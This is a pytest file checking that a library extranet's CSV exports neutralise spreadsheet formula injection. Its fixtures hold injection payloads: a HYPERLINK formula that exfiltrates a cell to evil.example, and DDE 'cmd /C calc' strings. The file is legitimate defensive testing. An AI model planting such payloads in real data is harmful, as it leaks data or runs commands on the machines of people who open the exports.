"""CSV formula injection: text typed by one user (a title, a refusal reason, a name) must never
run as a formula in the spreadsheet of the librarian or staff member who opens the export.

Every CSV goes through ``extranet.exports.formats.csv_lines``: a text cell starting with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote (OWASP); numbers
and the other text (barcodes, dates) stay exactly as stored.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from animation_tools.models import ToolBooking
from catalogue.marc.iso2709 import serialise
from catalogue.marc.record import MarcField, MarcRecord
from extranet.exports.formats import csv_lines, spreadsheet_safe
from extranet.models import ExportJob
from tests.animation_tools.factories import ToolBookingFactory, ToolFactory
from tests.factories import ItemFactory, LibraryFactory, LoanFactory, RecordFactory, ReservationFactory, make_marc
from tests.trainings.factories import RegistrationFactory, TrainingSessionFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2;"Cliquez ici")'
DDE = "+cmd|' /C calc'!A0"
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
DAY = datetime.date(2026, 10, 5)


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def _download_loans(client, **extra):
    return client.post(
        reverse("extranet:export", kwargs={"identifier": "loans"}),
        {"format": "csv", "scope": "filtered", "query": "", **extra},
    )


def _booby_trapped_loan(library):
    record = RecordFactory(title=HYPERLINK, main_author=DDE, marc=make_marc("Piège"))
    return LoanFactory(
        library=library,
        item=ItemFactory(record=record, barcode="0123456789012", call_number="-12 HUG"),
        loaned_on=DAY,
        due_on=DAY + datetime.timedelta(days=120),
    )


def test_a_loan_title_written_as_a_formula_is_text_in_the_loans_csv(client_for, manager):
    _booby_trapped_loan(manager.library)
    rows = _rows(_download_loans(client_for(manager)))
    assert rows[1][:4] == ["'" + HYPERLINK, "'" + DDE, "0123456789012", "'-12 HUG"]
    assert rows[1][5:7] == ["05/10/2026", "02/02/2027"]  # dates untouched


def test_a_large_loans_export_run_as_a_job_is_neutralised_too(client_for, manager, settings):
    settings.EXPORT_ASYNC_THRESHOLD = 0
    _booby_trapped_loan(manager.library)
    client = client_for(manager)
    response = _download_loans(client)
    assert ExportJob.objects.for_library(manager.library).get().status == ExportJob.Status.DONE
    rows = _rows(client.get(response["Location"]))
    assert rows[1][0] == "'" + HYPERLINK


def test_a_reservation_title_starting_with_a_carriage_return_is_text(client_for, manager):
    ReservationFactory(library=manager.library, record=RecordFactory(title="\r=1+1", marc=make_marc("x")))
    response = client_for(manager).post(
        reverse("extranet:export", kwargs={"identifier": "reservations"}),
        {"format": "csv", "scope": "filtered", "query": ""},
    )
    assert _rows(response)[1][0] == "'\r=1+1"


def test_a_tool_refusal_reason_starting_with_at_is_text_in_the_bookings_csv(client_for, manager):
    ToolBookingFactory(
        library=manager.library,
        tool=ToolFactory(name="\t=1+1"),
        status=ToolBooking.Status.REFUSED,
        refusal_reason=AT_FORMULA,
    )
    rows = _rows(client_for(manager).get(reverse("extranet:export", args=["tool_bookings"])))
    assert rows[1][0] == "'\t=1+1"
    assert rows[1][6] == "'" + AT_FORMULA


def test_a_library_named_like_a_formula_is_text_in_the_staff_navette_plan(client_for, admin_user):
    library = LibraryFactory(name="-2+3+cmd|' /C calc'!A0", code="VDO-PIEGE")
    ToolBookingFactory(
        library=library,
        tool=ToolFactory(crates=3),
        status=ToolBooking.Status.VALIDATED,
        loan_date=DAY,
        return_date=DAY + datetime.timedelta(days=3),
    )
    response = client_for(admin_user).get(
        reverse("exports_staff:export", args=["navette_plan"]),
        {"date_from": DAY.isoformat(), "date_to": DAY.isoformat()},
    )
    row = _rows(response)[1]
    assert row[3:5] == ["'-2+3+cmd|' /C calc'!A0", "VDO-PIEGE"]
    assert row[9] == "3"  # a number stays a number (column « Caisses »)


def test_a_trainee_named_like_a_formula_is_text_on_the_attendance_sheet(client_for, admin_user, manager):
    manager.last_name = "=1+1"
    manager.phone = "+33 1 34 25 12 34"
    manager.save()
    session = TrainingSessionFactory()
    RegistrationFactory(session=session, user=manager)
    response = client_for(admin_user).get(
        reverse("exports_staff:export", args=["attendance_sheet"]), {"session": session.pk}
    )
    row = _rows(response)[1]
    assert (row[0], row[4]) == ("'=1+1", "'+33 1 34 25 12 34")


def test_the_marc_import_report_neutralises_what_the_file_says(tmp_path):
    """``import_marc --report``: the 001 of a rejected record comes from the file."""
    fields = [MarcField("001", data="=HYPERLINK(1)"), MarcField("210", "  ", [("c", "Sans titre")])]
    data, _ = serialise(MarcRecord("00000nam  2200000   450 ", fields), flavour="unimarc")
    path = tmp_path / "piege.mrc"
    path.write_bytes(data)
    report = tmp_path / "rapport.csv"
    call_command("import_marc", str(path), "--report", str(report), "--no-progress", stdout=io.StringIO())
    rows = list(csv.reader(report.open(encoding="utf-8-sig"), delimiter=";"))
    assert rows[1][3:5] == ["'=HYPERLINK(1)", "rejet"]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1", "'+33 1"),
        ("-12", "'-12"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("0123456789012", "0123456789012"),
        ("Les Misérables", "Les Misérables"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-12, -12),
        (-1.5, -1.5),
        (Decimal("-3.20"), Decimal("-3.20")),
        (True, True),
        (datetime.date(2026, 10, 5), "2026-10-05"),
    ],
)
def test_only_text_starting_like_a_formula_is_changed(cell, written):
    assert spreadsheet_safe(cell) == written


def test_negative_numbers_are_written_as_numbers():
    lines = list(csv_lines(["Montant", "Code"], [[Decimal("-5000.00"), "-5000.00"], [-3, None]]))
    assert lines == ["\ufeffMontant;Code\r\n", "-5000.00;'-5000.00\r\n", "-3;\r\n"]
